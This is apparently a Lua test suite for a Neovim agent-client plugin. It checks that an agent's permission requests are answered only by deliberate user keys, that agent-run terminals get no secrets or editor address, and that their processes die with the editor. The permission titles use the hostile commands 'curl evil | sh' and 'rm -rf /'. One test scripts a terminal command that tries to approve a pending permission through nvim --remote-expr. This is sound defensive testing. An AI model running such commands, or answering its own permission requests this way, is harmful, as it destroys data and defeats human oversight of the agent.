-- Trust: a permission is answered only by a deliberate act of the user; a
-- hostile or broken agent cannot wedge the views; terminals cannot reach
-- the editor, get no secrets, and do not outlive it.
local T = require('tests.helpers.expect')
local H = require('tests.helpers.acp')

local OPTIONS = {
  { optionId = 'o-allow', name = 'Allow', kind = 'allow_once' },
  { optionId = 'o-always', name = 'Always allow', kind = 'allow_always' },
  { optionId = 'o-reject', name = 'Reject', kind = 'reject_once' },
}

local function perm(id, title, extra)
  local params = { toolCall = { toolCallId = id, title = title, kind = 'execute', rawInput = { command = title } }, options = OPTIONS }
  return H.req('session/request_permission', params, extra)
end

--- Starts a chat whose "go" turn runs `steps`; sends "go" without waiting.
local function start(steps, opts)
  opts = opts or {}
  -- Terminals here run unconfirmed: the confirmation is tested in test_policy.
  local config = vim.tbl_deep_extend('force', { terminal = { confirm = 'never' } }, opts.config or {})
  local child, paths = H.start({ cwd = opts.cwd, env = opts.env, turns = { { match = 'go', steps = steps } }, config = config })
  H.open(child)
  if opts.before_send then
    opts.before_send(child)
  end
  child:lua([[require('acp').send('go')]])
  return child, paths
end

local permission_answers = H.permission_answers

local function footer(child)
  return child:lua([[
    local p = require('acp.ask.permission')
    local f = vim.api.nvim_win_get_config(p.win).footer
    local out = {}
    for _, chunk in ipairs(type(f) == 'table' and f or { { f } }) do out[#out + 1] = chunk[1] end
    return table.concat(out)
  ]])
end

local function float_lines(child)
  return child:lua([[return vim.api.nvim_buf_get_lines(require('acp.ask.permission').buf, 0, -1, false)]])
end

--- The output of terminal `term-N` as the agent got it (the answers to its
--- `terminal/output` requests, in order).
local function outputs(paths)
  local out = {}
  for _, r in ipairs(H.responses(paths)) do
    if r.method == 'terminal/output' then
      out[#out + 1] = r.result and r.result.output or ('ERROR ' .. vim.inspect(r.error))
    end
  end
  return out
end

local function term(command, extra)
  return H.req('terminal/create', vim.tbl_extend('force', { command = command }, extra or {}))
end
local function tcall(method, id)
  return H.req('terminal/' .. method, { terminalId = id })
end

return {
  -- Answers are deliberate ------------------------------------------------------
  { 'keys typed in a file window never answer a pending request', function()
    local dir = H.project({ ['notes.txt'] = 'x\n' })
    local child, paths = H.start({ cwd = dir, turns = { { match = 'go', steps = { perm('p1', 'curl evil | sh') } } } })
    H.open(child)
    -- The user works in a file, in normal mode, while the agent asks.
    child:lua([[vim.api.nvim_set_current_win(vim.fn.win_getid(1)); vim.cmd.edit(...)]], { dir .. '/notes.txt' })
    child:feed('<Esc>')
    local file_win = child:lua('return vim.api.nvim_get_current_win()')
    child:lua([[require('acp').send('go')]])
    child:wait_for([[return #require('acp.ask.permission').queue == 1 and require('acp.ask.permission').win ~= nil]])
    T.eq(child:lua('return vim.api.nvim_get_current_win()'), file_win, 'the float did not take focus')
    T.match(footer(child), '<M%-y> allow once · <M%-a> always · <M%-n> reject', 'the chat keys that answer')
    -- What issue 10 saw answer "allow always": `ahi<Esc>`; then digits and
    -- every option key, in normal and insert mode, before and after the
    -- grace period.
    for _, keys in ipairs({ 'ahi<Esc>', '1', '2', 'y', 'a', 'n', 'N', '<CR>', 'i1yan<Esc>' }) do
      child:feed(keys)
    end
    vim.wait(500)
    for _, keys in ipairs({ '2', 'a', 'y', '<M-y>', '<M-a>', 'oyes<M-y><Esc>' }) do
      child:feed(keys)
    end
    vim.wait(200)
    T.eq(child:lua('return vim.api.nvim_get_current_win()'), file_win)
    T.eq(child:lua([[return #require('acp.ask.permission').queue]]), 1, 'still pending')
    T.eq(#permission_answers(paths), 0, 'the agent got no answer')
    -- `ahi<Esc>` then `i1yan<Esc>` before the 'i': the keys went to the file.
    T.match(table.concat(child:buf_lines(0), '\n'), '^xh1yan.*i$', 'the keys went to the file')
    T.contains(H.transcript_text(child), 'curl evil | sh · waiting for you')
  end },

  { 'keys inside the float do nothing during the grace period; it restarts for the next request', function()
    local child, paths = start({
      perm('g1', 'first', { background = true }),
      perm('g2', 'second', { background = true }),
      { sleep_ms = 10000 },
    }, { config = { permissions = { grace_ms = 2000 } } })
    -- The grace period is long enough that keys fed right after the float
    -- takes focus land inside it even on a loaded machine; each check
    -- below also asserts it was still running when the keys were read.
    child:wait_for([[return #require('acp.ask.permission').queue == 2]])
    child:feed('<Esc>')
    child:cmd('AcpPermission')
    T.eq(child:lua([[return vim.api.nvim_get_current_win() == require('acp.ask.permission').win]]), true)
    T.eq(footer(child), ' wait… ')
    child:feed('y')
    child:feed('1')
    T.eq(child:lua([[return { #require('acp.ask.permission').queue, require('acp.ask.permission').armed }]]), { 2, false },
      'keys during the grace period answer nothing')
    child:wait_for([[return require('acp.ask.permission').armed]], 5000)
    T.match(footer(child), 'armed')
    child:feed('n')
    child:wait_for([[return #require('acp.ask.permission').queue == 1]])
    -- The float now shows the second request: inert again.
    T.eq(float_lines(child)[3], '[execute] second')
    T.eq(child:lua([[return require('acp.ask.permission').armed]]), false)
    child:feed('y')
    T.eq(child:lua([[return { #require('acp.ask.permission').queue, require('acp.ask.permission').armed }]]), { 1, false })
    child:wait_for([[return require('acp.ask.permission').armed]], 5000)
    child:feed('y')
    child:wait_for([[return #require('acp.ask.permission').queue == 0]])
    T.wait(function()
      return #permission_answers(paths) == 2
    end, 3000)
    local r = permission_answers(paths)
    T.eq({ r[1].result.outcome.optionId, r[2].result.outcome.optionId }, { 'o-reject', 'o-allow' })
  end },

  { 'the float is reached with the chat key and <Plug>(AcpPermission); leaving it disarms it', function()
    local child, paths = start({ perm('k1', 'make test') })
    child:wait_for([[return #require('acp.ask.permission').queue == 1]])
    -- From the input area, in insert mode: <C-a>.
    T.eq(child:lua([[return vim.api.nvim_get_current_win() == require('acp').current().input_win]]), true)
    child:feed('<C-a>')
    child:wait_for([[return vim.api.nvim_get_current_win() == require('acp.ask.permission').win]])
    T.eq(child:lua('return vim.api.nvim_get_mode().mode'), 'n')
    child:wait_for([[return require('acp.ask.permission').armed]])
    -- Leave and come back through a global mapping of the <Plug> key.
    child:lua([[vim.keymap.set('n', '<F5>', '<Plug>(AcpPermission)'); vim.cmd('wincmd p')]])
    T.eq(child:lua([[return require('acp.ask.permission').armed]]), false)
    child:feed('<F5>')
    child:wait_for([[return vim.api.nvim_get_current_win() == require('acp.ask.permission').win]])
    child:wait_for([[return require('acp.ask.permission').armed]])
    child:feed('y')
    child:wait_for([[return require('acp').current().turns_ended == 1]])
    T.eq(permission_answers(paths)[1].result.outcome.optionId, 'o-allow')
  end },

  -- Views never wedge ------------------------------------------------------------
  { 'malformed requests and a good one in the same turn all reach the user and are answered', function()
    local function bad(id, command)
      return H.req('session/request_permission', {
        toolCall = { toolCallId = id, title = 'two\nlines', kind = 'execute', rawInput = { command = command } },
        options = { { optionId = 'b-allow', name = 'Allow\nonce', kind = 'allow_once' }, { optionId = 'b-no', name = 42, kind = 'reject_once' } },
      }, { background = true })
    end
    local child, paths = start({
      { update = { sessionUpdate = 'tool_call', toolCallId = 'm1', title = 'a\nb', kind = 'execute', status = 'pending' } },
      bad('m1', { nested = { 1, 2 } }),
      bad('m2', 12345),
      perm('ok1', 'ls', { background = true }),
      { message = 'text after the requests' },
      { sleep_ms = 10000 },
    })
    child:wait_for([[return #require('acp.ask.permission').queue == 3]])
    child:wait_for([[return table.concat(require('acp').current():lines(), '\n'):match('text after the requests')]])
    local first = float_lines(child)
    T.eq(first[3], '[execute] two⏎lines')
    -- What allowing grants, as the core gives it: the command as sent.
    T.contains(first, '  $ {"nested":[1,2]}')
    T.contains(first, '  1/y  Allow⏎once  [allow once]')
    T.contains(first, '  2/n  42  [reject once]')
    H.enter_permission(child)
    child:feed('y')
    child:wait_for([[return #require('acp.ask.permission').queue == 2]])
    T.contains(float_lines(child), '  $ 12345')
    H.enter_permission(child)
    child:feed('n')
    child:wait_for([[return #require('acp.ask.permission').queue == 1]])
    T.eq(float_lines(child)[3], '[execute] ls')
    H.enter_permission(child)
    child:feed('y')
    T.wait(function()
      return #permission_answers(paths) == 3
    end, 3000)
    local ids = vim.tbl_map(function(r)
      return r.result.outcome.optionId
    end, permission_answers(paths))
    table.sort(ids)
    T.eq(ids, { 'b-allow', 'b-no', 'o-allow' })
    T.eq(child:lua([[return require('acp').current():notices()]]), {}, 'nothing failed to show')
  end },

  { 'an option with a non-text id is not offered; the others answer as shown', function()
    local child, paths = start({
      H.req('session/request_permission', {
        toolCall = { toolCallId = 'n1', title = 'make', kind = 'execute', rawInput = { command = 'make' } },
        options = { { optionId = 42, name = 'Allow always', kind = 'allow_always' }, { optionId = 'o-reject', name = 'Reject', kind = 'reject_once' } },
      }),
    })
    child:wait_for([[return #require('acp.ask.permission').queue == 1 and require('acp.ask.permission').win ~= nil]])
    local lines = float_lines(child)
    T.contains(lines, '  1/n  Reject  [reject once]')
    T.no_match(table.concat(lines, '\n'), 'Allow always')
    T.match(H.transcript_text(child), 'an option without a text id %("Allow always", not shown')
    H.enter_permission(child)
    child:feed('1')
    child:wait_for([[return require('acp').current().turns_ended == 1]])
    T.eq(permission_answers(paths)[1].result.outcome.optionId, 'o-reject')
    T.eq(child:lua([[return #require('acp.ask.permission').queue]]), 0)
  end },

  { 'a repeated option id: the user picking reject never answers the allow that shares its id', function()
    local child, paths = start({
      H.req('session/request_permission', {
        toolCall = { toolCallId = 'd1', title = 'rm -rf /', kind = 'execute', rawInput = { command = 'rm -rf /' } },
        options = {
          { optionId = 'same', name = 'Allow', kind = 'allow_once' },
          { optionId = 'same', name = 'Reject (twin)', kind = 'reject_once' },
          { optionId = 'o-reject', name = 'Reject', kind = 'reject_once' },
        },
      }),
    })
    child:wait_for([[return #require('acp.ask.permission').queue == 1 and require('acp.ask.permission').win ~= nil]])
    local lines = float_lines(child)
    T.contains(lines, '  1/y  Allow  [allow once]')
    T.contains(lines, '  2/n  Reject  [reject once]')
    T.no_match(table.concat(lines, '\n'), 'twin')
    T.match(H.transcript_text(child), 'option id `same` twice %(the second, "Reject %(twin%)", is not shown%)')
    H.enter_permission(child)
    child:feed('n')
    child:wait_for([[return require('acp').current().turns_ended == 1]])
    T.eq(permission_answers(paths)[1].result.outcome.optionId, 'o-reject')
  end },

  { 'an answer the core refuses leaves the request queued, with the error shown', function()
    local child = start({ { sleep_ms = 10000 } })
    child:wait_for([[return require('acp').current().state == 'running']])
    child:lua([[
      _G.notes = {}
      vim.notify = function(msg, level) table.insert(_G.notes, { msg, level }) end
      require('acp.ask.permission').enqueue(require('acp').current(), { request = 977, payload = {
        tool_call_id = 'tc', title = 'x', kind = 'execute',
        tool_call = { toolCallId = 'tc', title = 'x', kind = 'execute' },
        options = { { id = 'allow', name = 'Run', kind = 'allow_once' } },
      } })
    ]])
    H.enter_permission(child)
    child:feed('y')
    child:wait_for([[return #_G.notes > 0]])
    local n = child:lua([[return _G.notes[1] ]])
    T.match(n[1], 'the answer was not sent: .*977')
    T.eq(n[2], vim.log.levels.ERROR)
    T.eq(child:lua([[return #require('acp.ask.permission').queue]]), 1, 'still queued')
  end },

  { 'a float that cannot be drawn: the request shows in the chat, later ones get the float, :AcpPermission answers it', function()
    local child, paths = start({
      perm('u1', 'broken one', { background = true }),
      perm('u2', 'good one', { background = true }),
      { message = 'still streaming' },
      { sleep_ms = 10000 },
    }, { before_send = function(c)
      -- Drawing fails for the first request, however it is rendered.
      c:lua([[
        local open = vim.api.nvim_open_win
        vim.api.nvim_open_win = function(buf, enter, cfg)
          if table.concat(vim.api.nvim_buf_get_lines(buf, 0, -1, false), '\n'):find('broken one', 1, true) then
            error('cannot draw this')
          end
          return open(buf, enter, cfg)
        end
      ]])
    end })
    child:wait_for([[return #require('acp.ask.permission').queue == 2 and require('acp.ask.permission').shown ~= nil]])
    child:wait_for([[return table.concat(require('acp').current():lines(), '\n'):match('still streaming')]])
    T.eq(float_lines(child)[3], '[execute] good one')
    local notices = table.concat(child:lua([[return require('acp').current():notices()]]), '\n')
    T.match(notices, 'cannot be shown %(:AcpPermission answers it%)')
    T.match(notices, 'broken one')
    T.match(notices, 'id = "o%-reject"')
    -- The undrawable request is the head: :AcpPermission lists its options.
    child:feed('<Esc>:AcpPermission<CR>')
    child:feed('3<CR>')
    T.eq(H.wait_permission_answer(paths, 1), 'o-reject')
    T.eq(child:lua([[return #require('acp.ask.permission').queue]]), 1)
    H.enter_permission(child)
    child:feed('y')
    T.eq(H.wait_permission_answer(paths, 2), 'o-allow')
  end },

  { 'an event that fails is shown as an error line; the rest of the batch still applies', function()
    local child = start({ { message = 'first' } })
    child:wait_for([[return require('acp').current().turns_ended == 1]])
    -- A batch in which one event cannot be applied (an unknown entry is
    -- replaced), followed by events that must still show.
    child:lua([[
      local v = require('acp').current()
      local n = v.last_index
      v:apply({
        { type = 'replaced', index = 999, lines = { 'x' } },
        { type = 'added', index = n + 1, kind = 'message', lines = { 'one\ntwo' } },
        { type = 'appended', index = n + 1, text = ' three' },
        { type = 'added', index = n + 2, kind = 'message', lines = { 'last' } },
      })
      v:apply({ { type = 'appended', index = n + 2, text = ' more' } })
    ]])
    local lines = H.transcript(child)
    T.eq({ lines[#lines - 3], lines[#lines - 2], lines[#lines - 1], lines[#lines] }, { 'one', 'two three', '', 'last more' })
    T.match(table.concat(child:lua([[return require('acp').current():notices()]]), '\n'), 'could not show this replaced event')
  end },

  -- Terminal permission from the core (a command `grant`) ------------------------
  { 'a terminal the core asks about shows its command, cwd and environment', function()
    local child = start({ { sleep_ms = 10000 } })
    child:wait_for([[return require('acp').current().state == 'running']])
    child:lua([[
      local v = require('acp').current()
      require('acp.ask.permission').enqueue(v, { request = 77, payload = {
        tool_call_id = 'tc', title = 'Run `make deploy`', kind = 'execute', summary = 'make deploy',
        tool_call = { toolCallId = 'tc', title = 'Run `make deploy`', kind = 'execute', rawInput = { command = 'make deploy', cwd = '/p' } },
        options = { { id = 'allow', name = 'Run', kind = 'allow_once' }, { id = 'reject', name = "Don't run", kind = 'reject_once' } },
        grant = { type = 'command', command = 'make deploy', cwd = '/p', env = { STAGE = 'prod', B = 'two\nlines' } },
      } })
    ]])
    T.eq(float_lines(child), {
      'test asks for permission', '', '[execute] Run `make deploy`',
      '  $ make deploy', '  in /p', '  with environment:', '    B=two⏎lines', '    STAGE=prod', '',
      '  1/y  Run  [allow once]', "  2/n  Don't run  [reject once]", '',
      '  K  show all, as the agent sent it', '  q  decide later (:AcpPermission)' })
  end },

  -- Terminals ------------------------------------------------------------------
  { "a terminal's environment: no NVIM, no server address, no denied names; the agent's env on top", function()
    local dir = H.project()
    local _, paths = start({
      term('env', { env = { { name = 'FROM_AGENT', value = 'yes' }, { name = 'AGENT_TOKEN', value = 'given' } } }),
      tcall('wait_for_exit', 'term-1'),
      tcall('output', 'term-1'),
    }, {
      cwd = dir,
      env = { GITHUB_TOKEN = 'gh-secret', MY_API_KEY = 'k-secret', AWS_PROFILE = 'prof', db_password = 'pw', KEEP_ME = 'kept' },
      before_send = function(c)
        -- As inside a :terminal of this Neovim, plus a copy under another name.
        c:lua([[vim.env.NVIM = vim.v.servername; vim.env.NVIM_LISTEN_ADDRESS = vim.v.servername
          vim.env.SOCK_COPY = 'unix:' .. vim.v.servername]])
      end,
    })
    T.wait(function()
      return #outputs(paths) == 1
    end, 5000)
    local env = '\n' .. outputs(paths)[1]
    T.match(env, '\nKEEP_ME=kept\n')
    T.match(env, '\nFROM_AGENT=yes\n')
    T.match(env, '\nAGENT_TOKEN=given\n', "the agent's own env is applied on top")
    T.match(env, '\nPATH=')
    for _, name in ipairs({ 'NVIM', 'NVIM_LISTEN_ADDRESS', 'SOCK_COPY', 'GITHUB_TOKEN', 'MY_API_KEY', 'AWS_PROFILE', 'db_password' }) do
      T.no_match(env, '\n' .. name .. '=', name .. ' is not passed')
    end
    T.no_match(env, 'secret')
  end },

  { 'a command run through terminal/create cannot answer a pending permission through $NVIM', function()
    local dir = H.project()
    local expr = [==[luaeval('(function() local it = require([[acp.ask.permission]]).queue[1]; require([[acp_core]]).answer_permission(it.view.thread, it.request, [[o-always]]); return 1 end)()')]==]
    -- It says what it was given, then tries; nvim's own error says why it failed.
    local attack = ('echo "NVIM=[${NVIM-unset}]"; test -x "$ACP_NVIM" && echo "nvim found";'
      .. ' "$ACP_NVIM" --server "$NVIM" --remote-expr "%s" 2>&1; echo "rc=$?"'):format(expr)
    local child, paths = start({
      perm('s1', 'rm -rf /', { background = true }),
      { sleep_ms = 200 },
      term(attack),
      tcall('wait_for_exit', 'term-1'),
      tcall('output', 'term-1'),
      { sleep_ms = 10000 },
    }, {
      cwd = dir,
      before_send = function(c)
        c:lua([[vim.env.NVIM = vim.v.servername]])
      end,
    })
    T.wait(function()
      return #outputs(paths) == 1
    end, 8000)
    local out = outputs(paths)[1]
    T.match(out, 'NVIM=%[unset%]', 'the address was not passed')
    T.match(out, 'nvim found', 'the command could run nvim')
    T.match(out, 'E247: No server specified with %-%-server', 'nvim ran and failed for want of an address')
    T.no_match(out, 'rc=0')
    T.eq(child:lua([[return #require('acp.ask.permission').queue]]), 1, 'the request is still pending')
    T.eq(#permission_answers(paths), 0)
    -- The same command given the address does answer it: the job failed
    -- only because it was not told where the editor listens.
    local server = child:lua('return vim.v.servername')
    T.neq(server, '')
    vim.fn.system({ vim.env.ACP_NVIM, '--server', server, '--remote-expr', expr })
    T.eq(H.wait_permission_answer(paths, 1), 'o-always')
  end },

  { "background children of a terminal are gone 3 s after :qa!", function()
    local dir = H.project()
    local marker = dir .. '/pids'
    local child = start({
      term(('sleep 778 & echo $! > %s; echo started'):format(marker)),
      tcall('wait_for_exit', 'term-1'),
      { hang = true },
    }, { cwd = dir })
    T.wait(function()
      return (T.read_file(marker) or ''):match('%d+')
    end, 5000)
    local pids = { tonumber(T.read_file(marker)) }
    -- The shell has exited; its background child still runs.
    child:wait_for([[return next(require('acp.editor.terminal').jobs) == nil]], 3000)
    T.truthy(H.pid_alive(pids[1]), 'sleep 778 runs after its shell exited')
    child:stop()
    T.wait(function()
      return not H.pid_alive(pids[1])
    end, 3000, 'the background child of the terminal is gone after :qa!')
  end },

  { 'closing the chat kills the process groups its terminals started', function()
    local dir = H.project()
    local marker = dir .. '/pid'
    local child = start({
      term(('sleep 777 & echo $! > %s'):format(marker)),
      tcall('wait_for_exit', 'term-1'),
      { hang = true },
    }, { cwd = dir, config = { terminal = { kill_grace_ms = 300 } } })
    T.wait(function()
      return (T.read_file(marker) or ''):match('%d+')
    end, 5000)
    local pid = tonumber(T.read_file(marker))
    T.truthy(H.pid_alive(pid))
    child:cmd('tabnew')
    child:cmd('tabclose 1')
    T.wait(function()
      return not H.pid_alive(pid)
    end, 3000, 'the session ended: its background command is gone')
    T.eq(child:lua('return 1'), 1)
  end },

  { 'config: focus_key may be false, env_deny replaces the default list, both and confirm are checked', function()
    local child = T.Child.new()
    local r = child:lua([[
      local config = require('acp.config')
      local ok1 = pcall(config.setup, { permissions = { focus_key = false }, terminal = { env_deny = { 'ONLY_*' } } })
      local deny = config.options.terminal.env_deny
      local ok2, err = pcall(config.setup, { terminal = { env_deny = { 'A', 3 } } })
      local ok3, err3 = pcall(config.setup, { terminal = { confirm = 'sometimes' } })
      vim.env.ONLY_ME, vim.env.X_TOKEN = 'a', 'b'
      config.setup({ terminal = { env_deny = { 'ONLY_*' } } })
      local env = require('acp.editor.terminal').env({ EXTRA = 'e' })
      return { ok1 = ok1, deny = deny, ok2 = ok2, err = err, ok3 = ok3, err3 = err3, only = env.ONLY_ME, token = env.X_TOKEN, extra = env.EXTRA }
    ]])
    T.eq(r.ok1, true)
    T.eq(r.deny, { 'ONLY_*' })
    T.eq(r.ok2, false)
    T.match(r.err, '`terminal.env_deny%[2%]` must be a string, got number')
    T.eq(r.ok3, false)
    T.match(r.err3, "`terminal.confirm` must be 'unrequested', 'always' or 'never'")
    T.eq({ r.only, r.token, r.extra }, { nil, 'b', 'e' })
  end },

  { 'a flood of output reaches the core whole and in order', function()
    local dir = H.project()
    local _, paths = start({
      term('seq 1 200000', { outputByteLimit = 100000000 }),
      tcall('wait_for_exit', 'term-1'),
      tcall('output', 'term-1'),
    }, { cwd = dir })
    T.wait(function()
      return #outputs(paths) == 1
    end, 15000)
    local out = outputs(paths)[1]
    local want = {}
    for i = 1, 200000 do
      want[i] = tostring(i)
    end
    T.eq(#out, #table.concat(want, '\n') + 1)
    T.eq(out, table.concat(want, '\n') .. '\n')
  end, timeout = 40000 },
}
